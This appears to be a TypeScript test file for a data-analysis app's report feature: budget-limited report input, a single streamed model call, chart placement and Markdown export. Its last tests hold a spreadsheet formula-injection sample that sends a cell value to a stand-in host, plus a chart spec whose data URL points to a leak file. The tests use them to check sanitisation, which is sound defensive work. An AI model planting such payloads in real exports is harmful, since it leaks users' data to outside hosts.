/**
 * The report (ARCHITECTURE.md, Lineage): its input is built from the session within a token
 * budget, summarised from the oldest turn and never cut inside a result; it is written by one
 * streamed call without tools; its charts are placed where the text names them; the Markdown
 * export carries the data line, the charts as Vega-Lite and every query.
 */
import { describe, expect, it } from 'vitest';
import type { AgentEvent } from '../../src/core/events/events.ts';
import { reduceAll } from '../../src/core/events/view.ts';
import { ModelError } from '../../src/core/model/client.ts';
import { buildReportInput } from '../../src/core/report/report-input.ts';
import { reportDocument, reportMarkdown } from '../../src/core/report/report-document.ts';
import { reportSegments } from '../../src/core/report/report-segments.ts';
import { closeInterruptedReport, writeReport } from '../../src/core/report/write-report.ts';
import { chartsOf } from '../../src/core/report/report-charts.ts';
import { WEATHER } from '../helpers/fake-engine.ts';
import { ScriptedModel, type ScriptStep } from '../helpers/scripted-model.ts';
import { qid, tid } from '../helpers/ids.ts';

/** A finished question turn with one query of `rows` rows, an answer and a chart. */
function turnEvents(n: number, rows = 30): AgentEvent[] {
  const turnId = tid(`t${n}`);
  const values = Array.from({ length: rows }, (_, i) => [
    `2015-${String(i).padStart(4, '0')}`,
    i * 1.5,
  ]);
  return [
    { type: 'turn_start', turnId, kind: 'question', question: `Question ${n}?`, model: 'm', at: n },
    {
      type: 'query_result',
      turnId,
      callId: `q${n}`,
      queryId: qid(`Q${n}`),
      description: `Rain in turn ${n}`,
      query: `SELECT date, precipitation FROM data -- turn ${n}`,
      columns: ['date', 'precipitation'],
      rows: values,
      rowCount: rows,
      truncated: false,
      durationMs: 3,
      isError: false,
    },
    {
      type: 'text',
      turnId,
      callId: `a${n}`,
      text: `Answer ${n}: it rained ${n} mm [Q${n}]. `.repeat(20),
    },
    {
      type: 'plot',
      turnId,
      callId: `p${n}`,
      title: `Chart of turn ${n}`,
      spec: {
        data: { values: [{ d: 'a', mm: n }] },
        mark: 'bar',
        encoding: { x: { field: 'd', type: 'nominal' }, y: { field: 'mm', type: 'quantitative' } },
      },
    },
    { type: 'done', turnId, state: 'done', at: n + 1 },
  ];
}

const source = (turns: number, rows = 30) => ({
  title: 'Rain',
  tables: [WEATHER],
  profiles: {},
  view: reduceAll(Array.from({ length: turns }, (_, i) => turnEvents(i + 1, rows)).flat()),
});

describe('the report input', () => {
  it('holds the questions, answers, queries with results, and charts', () => {
    const input = buildReportInput(source(2));
    expect(input.summarisedTurns).toBe(0);
    expect(input.text).toContain('Question 1?');
    expect(input.text).toContain('Q2 — Rain in turn 2 (30 rows)');
    expect(input.text).toContain('SELECT date, precipitation FROM data -- turn 1');
    expect(input.text).toContain('["2015-0003",4.5]');
    expect(input.text).toContain('Chart C2: "Chart of turn 2"; bar chart; x=d, y=mm; 1 data rows');
    expect(input.queryIds).toEqual(['Q1', 'Q2']);
    expect(input.estimatedTokens).toBe(Math.ceil(input.text.length / 3.5));
  });

  it('fits a long session in the budget from its oldest turn on, never cutting a result', () => {
    const whole = buildReportInput(source(12, 20));
    const budget = Math.floor(whole.estimatedTokens * 0.75);
    const fitted = buildReportInput(source(12, 20), budget);
    expect(fitted.estimatedTokens).toBeLessThanOrEqual(budget);
    expect(fitted.summarisedTurns).toBeGreaterThan(0);
    // The latest turn is whole; the oldest lost its rows first, and says so.
    expect(fitted.text).toContain('SELECT date, precipitation FROM data -- turn 12');
    expect(fitted.text).toContain('["2015-0019",28.5]');
    expect(fitted.text).toContain('(Result rows left out to fit the report budget.)');
    // Every result given is given whole: its last row is there whenever its first is.
    for (const block of fitted.text.split('- Q').slice(1))
      if (block.includes('["2015-0000"')) expect(block).toContain('["2015-0019"');
    // Every query is still named, with its row count.
    for (let n = 1; n <= 12; n++)
      expect(fitted.text).toContain(`Q${n} — Rain in turn ${n} (20 rows)`);
  });
});

describe('writing the report', () => {
  const run = async (steps: ScriptStep[], signal = new AbortController().signal) => {
    const model = new ScriptedModel(steps);
    const events: AgentEvent[] = [];
    await writeReport({
      reportId: tid('r1'),
      input: buildReportInput(source(2)),
      model,
      modelId: 'claude-sonnet-5-5',
      signal,
      emit: (e) => events.push(e),
      now: () => 7,
    });
    return { model, events, view: reduceAll([...(source(2) && []), ...events]).report };
  };

  it('is one call without tools over the findings, streamed, with its cost', async () => {
    const text = '# Rain report\n\n## Executive summary\nIt rained 1.5 mm [Q1].\n\n[[C1]]\n';
    const { model, events, view } = await run([{ text }]);
    const [request] = model.requests;
    expect(request!.tools).toEqual([]);
    expect(request!.system[0]!.text).toMatch(/Never invent or estimate a number/);
    expect(JSON.stringify(request!.messages)).toContain('Q1 — Rain in turn 1');
    expect(events.filter((e) => e.type === 'report_draft').length).toBeGreaterThan(1);
    expect(view).toMatchObject({
      id: 'r1',
      state: 'done',
      text,
      estimatedInputTokens: expect.any(Number),
    });
    expect(view!.usage.calls).toBe(1);
  });

  it('keeps what arrived when the connection drops, and says why', async () => {
    const { view } = await run([{ cut: { text: 'Half a report that stops' }, wholeTools: 0 }]);
    expect(view).toMatchObject({ state: 'error', text: 'Half a report that stops' });
    expect(view!.message).toMatch(/connection/);
  });

  it('ends stopped when the person stops it', async () => {
    const abort = new AbortController();
    abort.abort();
    const { view } = await run(
      [{ error: new ModelError('aborted', 'Request was aborted.') }],
      abort.signal,
    );
    expect(view!.state).toBe('stopped');
  });

  it('is closed as interrupted when the page closed while it was written', () => {
    const started: AgentEvent = {
      type: 'report_start',
      turnId: tid('r1'),
      model: 'm',
      estimatedInputTokens: 9,
      at: 1,
    };
    const end = closeInterruptedReport([started], 5);
    expect(end).toMatchObject({ type: 'report_end', turnId: tid('r1'), state: 'interrupted' });
    expect(closeInterruptedReport([started, end!], 6)).toBeNull();
    expect(reduceAll([started, end!]).report!.state).toBe('interrupted');
  });
});

describe('placing and exporting', () => {
  const view = () => {
    const events = [...turnEvents(1, 3), ...turnEvents(2, 3)];
    events.push(
      { type: 'report_start', turnId: tid('r'), model: 'm', estimatedInputTokens: 1, at: 1 },
      {
        type: 'report_end',
        turnId: tid('r'),
        state: 'done',
        text: '# Rain\n\nIt rained [Q1].\n\n[[C2]]\n\nNot a chart: [[C9]]\n',
        at: 2,
      },
    );
    return reduceAll(events);
  };

  it('puts a chart where a line names it, and leaves an unknown id as text', () => {
    const v = view();
    const segments = reportSegments(v.report!.text, chartsOf(v));
    expect(segments.map((s) => (s.type === 'chart' ? s.chart.id : 'text'))).toEqual([
      'text',
      'C2',
      'text',
    ]);
    expect(segments[2]).toMatchObject({ text: expect.stringContaining('[[C9]]') });
  });

  it('exports Markdown with the data line, the charts as Vega-Lite and every query', () => {
    const doc = reportDocument(
      view(),
      [
        {
          name: 'data',
          fileName: 'weather.csv',
          fileBytes: 1,
          rows: 2922,
          columns: [],
          format: 'csv',
          encoding: 'utf-8',
          notes: [],
          loadMs: 1,
        },
      ],
      new Date('2026-11-23T12:00:00Z'),
    )!;
    const md = reportMarkdown(doc);
    expect(
      md.startsWith(
        '# Rain\n\n_Data: weather.csv (table data: 2,922 rows × 0 columns) · Made with Sift on 2026-11-23_',
      ),
    ).toBe(true);
    expect(md).toContain('```vega-lite\n{\n  "title": "Chart of turn 2"');
    expect(md).toContain('## Other charts of the session');
    expect(md).toContain('### Q1 — Rain in turn 1\n\n3 rows\n\n```sql\nSELECT date');
    expect(md).toContain('### Q2 — Rain in turn 2');
  });

  it('leaves out of the Markdown a chart spec the page would not draw (a data.url a crafted .sift carried)', () => {
    const v = view();
    let crafted = 0;
    for (const turn of v.turns)
      for (const item of turn.items)
        if (item.type === 'plot') {
          (item as { spec: Record<string, unknown> }).spec = {
            ...item.spec,
            data: { url: 'https://x.example/leak.csv' },
          };
          crafted++;
        }
    expect(crafted).toBeGreaterThan(0);
    const table = {
      name: 'data',
      fileName: 'weather.csv',
      fileBytes: 1,
      rows: 2922,
      columns: [],
      format: 'csv' as const,
      encoding: 'utf-8' as const,
      notes: [],
      loadMs: 1,
    };
    const md = reportMarkdown(reportDocument(v, [table], new Date('2026-11-23T12:00:00Z'))!);
    expect(md).not.toContain('x.example');
    expect(md).toContain('_Its spec is left out:');
  });

  it('writes for other viewers only what no sanitiser of ours must stand behind (issue 46)', () => {
    const events = turnEvents(1, 3);
    const result = events.find((e) => e.type === 'query_result')!;
    Object.assign(result, {
      columns: ['note', 'n'],
      rows: [
        ['=IMAGE("https://x.example/?d="&B2)', '-5'],
        ['plain', '-2+3'],
      ],
    });
    const plot = events.find((e) => e.type === 'plot')!;
    Object.assign(plot, {
      spec: {
        data: { values: [{ d: 'a', mm: 1, paint: 'orange' }] },
        mark: 'bar',
        encoding: {
          x: { field: 'd', type: 'nominal' },
          y: { field: 'mm', type: 'quantitative' },
          color: { field: 'paint', type: 'nominal', scale: null },
        },
      },
    });
    events.push(
      { type: 'report_start', turnId: tid('r'), model: 'm', estimatedInputTokens: 1, at: 1 },
      { type: 'report_end', turnId: tid('r'), state: 'done', text: '# Notes\n\n[[C1]]', at: 2 },
    );
    const md = reportMarkdown(reportDocument(reduceAll(events), [], new Date('2026-11-23'))!);
    // Pasted from the report into a sheet, the formula stays text; the numbers stay numbers.
    expect(md).toContain('| \'=IMAGE("https://x.example/?d="&B2) | -5 |');
    expect(md).toContain("| plain | '-2+3 |");
    // A column of colours is drawn by Sift, grey where a value is not a colour; a previewer of
    // the Markdown has no such sanitiser, so the chart is named and left out.
    expect(md).not.toContain('```vega-lite');
    expect(md).toContain('_Its spec is left out: encoding.color.scale is null');
  });
});
